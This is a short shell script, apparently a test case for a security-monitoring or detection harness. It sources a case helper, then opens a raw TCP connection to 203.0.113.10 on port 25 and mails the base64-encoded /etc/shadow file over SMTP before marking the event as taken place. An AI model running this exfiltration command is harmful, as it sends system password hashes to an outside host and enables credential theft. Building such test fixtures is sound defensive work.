#!/bin/sh
. /opt/case/case.sh

bash -c 'exec 3<>/dev/tcp/203.0.113.10/25; printf "HELO x\r\nMAIL FROM:<a@x>\r\nRCPT TO:<b@x>\r\nDATA\r\n" >&3; openssl base64 -in /etc/shadow >&3; printf "\r\n.\r\nQUIT\r\n" >&3'
took_place
